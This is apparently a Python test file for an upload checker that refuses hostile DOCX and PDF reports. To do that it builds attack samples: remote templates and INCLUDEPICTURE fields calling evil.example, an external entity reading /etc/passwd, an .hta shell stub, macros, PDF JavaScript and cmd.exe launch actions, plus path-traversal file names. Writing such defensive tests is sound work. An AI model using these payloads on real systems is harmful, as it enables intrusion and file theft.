"""Hostile report files are refused before anything is stored (issue 29, 6): each attack the
second security round made, built here as an attacker would, and the ordinary files an office
sends, accepted."""

from __future__ import annotations

import io
import zipfile

import pytest
from conftest import PDF

from revitalization.report_files import DOCX, inspect, safe_name
from revitalization.report_files import PDF as PDF_TYPE


def docx(text: str = "随县 2025 年乡村振兴工作报告", *, link: str = "") -> bytes:
    from docx import Document
    from docx.opc.constants import RELATIONSHIP_TYPE

    document = Document()
    paragraph = document.add_paragraph(text)
    if link:  # an ordinary hyperlink: external, and allowed
        rid = document.part.relate_to(link, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
        paragraph._p.append(paragraph._p.makeelement(
            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}hyperlink",
            {"{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id": rid}))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def tampered(data: bytes, *, replace: dict[str, tuple[bytes, bytes]] | None = None,
             add: dict[str, bytes] | None = None) -> bytes:
    """``data`` (a DOCX) with parts changed (``name: (old, new)``) or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in source.infolist():
            body = source.read(item)
            if replace and item.filename in replace:
                old, new = replace[item.filename]
                assert old in body, (item.filename, old)
                body = body.replace(old, new, 1)
            z.writestr(item.filename, body)
        for name, body in (add or {}).items():
            z.writestr(name, body)
    return out.getvalue()


REMOTE_TEMPLATE = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
                   b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
                   b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                   b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
BODY = b"<w:body>"


def pdf_with(root_entries: dict) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    for key, value in root_entries.items():
        entry = DictionaryObject({NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v)
                                  for k, v in value.items()})
        writer._root_object[NameObject(key)] = writer._add_object(entry)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(("data", "message"), [
    (tampered(docx(), add={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
     "文件引用了外部内容（http://evil.example/t.dotm，如远程模板或链接的图片）"),
    (tampered(docx(), replace={"word/document.xml": (BODY, BODY + b'<w:p><w:r><w:fldChar w:fldCharType="begin"/>'
                                                     b'</w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE '
                                                     b'"http://evil.example/b.png" \\d </w:instrText></w:r></w:p>')}),
     "文件中有“INCLUDEPICTURE”域"),
    (tampered(docx(), replace={"word/document.xml": (b"?>", b'?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')}),
     "文件的“word/document.xml”中有文档类型或实体声明"),
    (tampered(docx(), add={"word/update.hta": b"<script>new ActiveXObject('WScript.Shell')</script>"}),
     "文件中含有报告不需要的内容“word/update.hta”"),
    (tampered(docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
     "文件中含有报告不需要的内容“word/vbaProject.bin”"),
    (pdf_with({"/OpenAction": {"/S": "/JavaScript", "/JS": "app.launchURL('http://evil.example')"}}),
     "PDF 中含有JavaScript 脚本，不予保存"),
    (pdf_with({"/OpenAction": {"/S": "/Launch", "/F": "cmd.exe"}}), "PDF 中含有启动外部程序的动作"),
    (pdf_with({"/Names": {"/EmbeddedFiles": "x"}}), "PDF 中含有嵌入的文件"),
], ids=["remote template", "INCLUDEPICTURE", "external entity", "extra .hta", "macros",
        "OpenAction JavaScript", "Launch", "embedded file"])
def test_a_hostile_report_is_refused_with_the_reason(data, message):
    kind, problem = inspect("报告.docx", data)
    assert message in problem


def test_a_javascript_name_written_with_escapes_is_still_found():
    """``/J#61vaScript`` is ``/JavaScript`` to a PDF reader; pypdf decodes the name."""
    data = pdf_with({"/OpenAction": {"/S": "/JavaScript", "/JS": "app.alert(1)"}})
    escaped = data.replace(b"/JavaScript", b"/J#61vaScript")
    assert escaped != data
    assert "JavaScript 脚本" in inspect("报告.pdf", escaped)[1]


def test_ordinary_reports_are_accepted():
    assert inspect("报告.docx", docx()) == (DOCX, "")
    assert inspect("报告.docx", docx(link="https://nyncj.hubei.gov.cn/")) == (DOCX, "")  # a hyperlink is fine
    assert inspect("报告.pdf", PDF) == (PDF_TYPE, "")
    assert inspect("报告.docx", b"plain text")[1].startswith("“报告.docx”不是 Word（.docx）或 PDF 文件")


@pytest.mark.parametrize(("name", "kind", "stored"), [
    ("随县报告.docx", DOCX, "随县报告.docx"),
    ("../../etc/随县报告.pdf", PDF_TYPE, "随县报告.pdf"),
    ("C:\\Users\\a\\报告\u202egpj.docx", DOCX, "报告gpj.docx"),  # right-to-left override removed
    ('报"告<1>.docx', DOCX, "报告1.docx"),
    ("报告.pdf", DOCX, "报告.docx"),  # named by its content
    ("...", PDF_TYPE, "报告.pdf"),
    ("长" * 200 + ".pdf", PDF_TYPE, "长" * 80 + ".pdf"),
])
def test_a_stored_name_is_safe(name, kind, stored):
    assert safe_name(name, kind) == stored
